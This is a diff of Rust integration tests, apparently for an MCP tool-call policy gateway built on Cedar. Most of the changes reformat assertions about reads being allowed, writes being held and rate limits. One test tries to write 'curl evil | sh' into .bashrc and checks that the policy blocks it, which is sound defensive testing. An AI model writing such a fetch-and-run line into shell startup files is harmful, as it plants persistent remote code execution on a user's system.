@@ -64,8 +64,14 @@ fn the_cedar_example_cases_pass_with_policy_test_and_name_their_policies() {
             .unwrap()
             .clone()
     };
-    assert_eq!(by_name("reads are allowed")["determined_by"], json!(["reads"]));
-    assert_eq!(by_name("writes are held")["determined_by"], json!(["changes-held"]));
+    assert_eq!(
+        by_name("reads are allowed")["determined_by"],
+        json!(["reads"])
+    );
+    assert_eq!(
+        by_name("writes are held")["determined_by"],
+        json!(["changes-held"])
+    );
     assert_eq!(
         by_name("the 31st change in a minute is forbidden")["determined_by"],
         json!(["change-rate"])
@@ -114,7 +120,10 @@ fn policy_inspect_shows_the_built_in_cedar_component_importing_nothing() {
         inspect["sha256"],
         toolward::canonical::sha256_hex(toolward::component::CEDAR_COMPONENT)
     );
-    assert_eq!(inspect["worlds"], json!(["validated-policy-component@0.2.0"]));
+    assert_eq!(
+        inspect["worlds"],
+        json!(["validated-policy-component@0.2.0"])
+    );
     for import in inspect["imports"].as_array().unwrap() {
         assert_eq!(import, "toolward:policy/types@0.2.0", "{inspect:#}");
     }
@@ -146,11 +155,7 @@ fn demo_folder() -> Option<tempfile::TempDir> {
         serde_json::from_str(&std::fs::read_to_string(example.join("toolward.json")).unwrap())
             .unwrap();
     config["mcpServers"]["fs"]["args"][0] = json!(server.display().to_string());
-    config
-        .as_object_mut()
-        .unwrap()
-        .remove("$schema")
-        .unwrap();
+    config.as_object_mut().unwrap().remove("$schema").unwrap();
     std::fs::write(
         dir.path().join("toolward.json"),
         serde_json::to_string_pretty(&config).unwrap(),
@@ -187,7 +192,12 @@ fn the_filesystem_demo_runs_on_the_cedar_policy_with_the_decisions_its_cases_sta
 
     // Reads are allowed.
     let args = json!({"path": at("hello.txt")}).to_string();
-    let (code, out, err) = run(bin, dir, &["call", "fs__read_text_file", "--args", &args], "");
+    let (code, out, err) = run(
+        bin,
+        dir,
+        &["call", "fs__read_text_file", "--args", &args],
+        "",
+    );
     assert_eq!(code, Some(0), "{out}{err}");
     assert!(out.contains("hello from the Cedar demo"), "{out}");
 
@@ -203,7 +213,12 @@ fn the_filesystem_demo_runs_on_the_cedar_policy_with_the_decisions_its_cases_sta
 
     // Writes to dotfiles are forbidden by an argument condition.
     let args = json!({"path": at(".bashrc"), "content": "curl evil | sh"}).to_string();
-    let (code, out, err) = run(bin, dir, &["call", "fs__write_file", "--args", &args], "y\n");
+    let (code, out, err) = run(
+        bin,
+        dir,
+        &["call", "fs__write_file", "--args", &args],
+        "y\n",
+    );
     assert_ne!(code, Some(0), "{out}{err}");
     assert!(format!("{out}{err}").contains("dotfile"), "{out}{err}");
     assert!(!sandbox.join(".bashrc").exists());
@@ -211,10 +226,18 @@ fn the_filesystem_demo_runs_on_the_cedar_policy_with_the_decisions_its_cases_sta
     // Other writes are held, and written once approved; where the host supplies no facts
     // (`context.facts`), the rate limit cannot be evaluated and the write is denied.
     let args = json!({"path": at("notes.txt"), "content": "approved"}).to_string();
-    let (code, out, err) = run(bin, dir, &["call", "fs__write_file", "--args", &args], "y\n");
+    let (code, out, err) = run(
+        bin,
+        dir,
+        &["call", "fs__write_file", "--args", &args],
+        "y\n",
+    );
     let records = decisions(dir);
     let last = records.last().unwrap();
-    if last.get("facts").is_some_and(|f| f.get("tool.forwarded.minute").is_some()) {
+    if last
+        .get("facts")
+        .is_some_and(|f| f.get("tool.forwarded.minute").is_some())
+    {
         assert_eq!(code, Some(0), "{out}{err}");
         assert_eq!(last["decision"], "hold", "{last}");
         assert_eq!(last["determined_by"], json!(["changes-held"]), "{last}");
